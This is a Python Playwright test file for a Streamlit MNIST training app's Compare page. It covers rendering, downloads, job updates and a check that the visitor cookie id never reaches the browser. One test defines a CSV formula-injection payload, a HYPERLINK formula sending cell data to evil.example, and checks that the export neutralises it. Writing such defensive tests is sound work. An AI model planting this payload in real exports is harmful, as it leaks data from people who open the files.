"""The Compare page in a real Chromium: table and scatter render; a download delivers a file."""

import json
import re
from pathlib import Path

import pytest

from core.jobs.tasks import save_training_result
from core.nn.config import TrainingConfig
from core.nn.training import train_model
from core.runs import RunStore
from testkit.browser import wait_for_app
from testkit.harness import page_errors, start_streamlit, stop_streamlit

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def compare_runs_dir(tmp_path_factory, mnist) -> Path:
    """Three small networks' runs, stored before the module's server starts."""
    folder = tmp_path_factory.mktemp("compare-runs")
    store = RunStore(folder)
    for units in (16, 32, 64):
        config = TrainingConfig(hidden_layers=(units,), epochs=1, train_size=500)
        save_training_result(store, train_model(config, mnist), mnist, name=f"browser net {units}")
    return folder


@pytest.fixture(scope="module")
def server_with_runs(tmp_path_factory, compare_runs_dir):
    """A server of the module's own: the run in focus is the newest, which on the shared
    server could be one that another test's job stored meanwhile."""
    folder = tmp_path_factory.mktemp("compare-server")
    process, base_url, _ = start_streamlit(folder, {"MNIST_STUDIO_RUNS_DIR": str(compare_runs_dir)})
    yield base_url
    stop_streamlit(process)


def test_compare_page_shows_table_scatter_and_downloads_a_configuration(
    server_with_runs, page, output_dir
):
    page.goto(f"{server_with_runs}/compare")
    wait_for_app(page)
    assert page_errors(page) == []
    page.wait_for_selector('[data-testid="stDataFrame"]')
    # Plotly draws every point of the scatter as an SVG path inside .scatterlayer.
    page.wait_for_selector(".js-plotly-plot .scatterlayer .point")
    assert page.locator(".js-plotly-plot").count() >= 4

    with page.expect_download() as download_info:
        page.get_by_role("button", name="Configuration (JSON)").click()
    download = download_info.value
    content = json.loads(Path(download.path()).read_text())
    assert content["name"].startswith("browser net")
    assert TrainingConfig.from_dict(content["config"]).train_size == 500
    page.screenshot(path=str(output_dir / "compare-runs.png"), full_page=True)


def _runs_caption(page) -> tuple[int, int]:
    text = page.get_by_text(re.compile(r"\d+ of \d+ runs\.")).first.inner_text()
    shown, total = re.search(r"(\d+) of (\d+) runs", text).groups()
    return int(shown), int(total)


def test_baseline_and_sweep_results_appear_without_navigating(private_server, page, output_dir):
    """A finished background job updates the page by itself (ui.watch_jobs).

    On a server of its own: on the shared one, a run that another test's job stored while
    this one waited was counted with this test's (CI: 2 runs where 1 was expected)."""
    streamlit_server = private_server
    page.goto(f"{streamlit_server}/compare")
    wait_for_app(page)
    page.get_by_role("tab", name="Classical baselines").wait_for()
    assert page.get_by_text(re.compile(r"of \d+ runs\.")).count() == 0

    page.get_by_role("tab", name="Classical baselines").click()
    size = page.locator(".st-key-compare_baseline_train_size input")
    size.fill("300")
    size.press("Enter")
    wait_for_app(page)
    page.locator(".st-key-compare_baseline_train button").click()
    # The job line gains the accuracy and run number once the job finishes; no navigation.
    page.get_by_text(re.compile(r"finished: [\d.]+% test accuracy \(run #\d+\)")).wait_for(
        timeout=120_000
    )
    wait_for_app(page)
    page.get_by_role("tab", name="Runs").click()
    assert _runs_caption(page) == (1, 1)
    assert page_errors(page) == []

    page.get_by_role("tab", name="Sweep").click()
    page.locator(".st-key-compare_sweep_base").click()
    page.get_by_role("option", name="Quick look").click()
    wait_for_app(page)
    page.locator('.st-key-compare_sweep_neurons button[aria-label="Remove 128"]').last.click()
    wait_for_app(page)
    page.get_by_text(re.compile(r"^2 runs, about")).wait_for()
    # With early stopping the second member to finish its first epoch may stop there.
    page.locator(".st-key-compare_sweep_early_stopping label").click()
    wait_for_app(page)
    page.locator(".st-key-compare_sweep_run button").click()
    # Both runs' results, and the parallel coordinates, appear once the sweep is done.
    page.locator(".st-key-compare_sweep_parcoords .js-plotly-plot").wait_for(timeout=300_000)
    wait_for_app(page)
    sweep_tab = page.get_by_role("tabpanel", name="Sweep")
    sweep_tab.locator('[data-testid="stDataFrame"]').wait_for()
    assert page_errors(page) == []
    page.screenshot(path=str(output_dir / "compare-sweep-results.png"), full_page=True)
    page.get_by_role("tab", name="Runs").click()
    assert _runs_caption(page) == (3, 3)


HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1, "click")'


def test_the_runs_table_downloads_as_csv_with_formulas_neutralised(
    server_with_runs, compare_runs_dir, page, mnist
):
    """Before, the table's own "Download as CSV" wrote a name like =HYPERLINK(...) as is."""
    import csv
    import io

    store = RunStore(compare_runs_dir)
    config = TrainingConfig(hidden_layers=(8,), epochs=1, train_size=300)
    run_id = save_training_result(store, train_model(config, mnist), mnist, name=HOSTILE_NAME)
    try:
        page.goto(f"{server_with_runs}/compare")
        wait_for_app(page)
        table = page.locator('.st-key-compare_table, [data-testid="stDataFrame"]').first
        table.hover()
        # Streamlit's own export (written in the browser, past core.runs.csv_export) is off.
        assert page.get_by_role("button", name="Download as CSV").count() == 0
        with page.expect_download() as download_info:
            page.get_by_role("button", name="Download the table (CSV)").click()
        rows = list(csv.DictReader(io.StringIO(Path(download_info.value.path()).read_text())))
        names = [row["Name"] for row in rows]
        assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
        assert all(float(row["Test accuracy"]) > 0 for row in rows)
        assert "owner" not in rows[0] and "id" not in rows[0]
    finally:
        store.delete_run(run_id, missing_ok=True)


def test_no_page_sends_the_visitor_id_to_the_browser(browser, tmp_path, mnist, output_dir):
    """The visitor id is an HttpOnly cookie: anyone who reads it becomes that visitor.
    Before, Compare sent every run's owner (that id) to the browser with the runs table;
    here every frame the server sends on every page and tab is searched for it."""
    import ui
    from core.visitors.identity import COOKIE_NAME

    process, base_url, _ = start_streamlit(tmp_path)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.set_default_timeout(60_000)
    page = context.new_page()
    frames: list[bytes] = []
    page.on(
        "websocket",
        lambda socket: socket.on(
            "framereceived",
            lambda payload: frames.append(
                payload if isinstance(payload, bytes) else payload.encode()
            ),
        ),
    )
    try:
        page.goto(base_url)
        wait_for_app(page)
        visitor = {cookie["name"]: cookie["value"] for cookie in context.cookies()}[COOKIE_NAME]
        store = RunStore(tmp_path / "runs")
        config = TrainingConfig(hidden_layers=(8,), epochs=1, train_size=300)
        result = train_model(config, mnist)
        save_training_result(store, result, mnist, owner=visitor, name="leak check net")
        page.goto(f"{base_url}/compare")
        wait_for_app(page)
        page.get_by_role("button", name="Use as current model").click()
        wait_for_app(page)
        for spec in ui.PAGES:
            page.goto(f"{base_url}/{'' if spec.default else ui.url_path(spec)}")
            wait_for_app(page)
            tabs = page.locator('[data-testid="stMain"] [role="tab"]')
            for index in range(tabs.count()):
                tabs.nth(index).click()
                wait_for_app(page)
            assert page_errors(page) == [], spec.title
        assert any(b"leak check net" in frame for frame in frames)  # the frames were read
        leaks = [frame[:200] for frame in frames if visitor.encode() in frame]
        assert leaks == []
    finally:
        context.close()
        stop_streamlit(process)
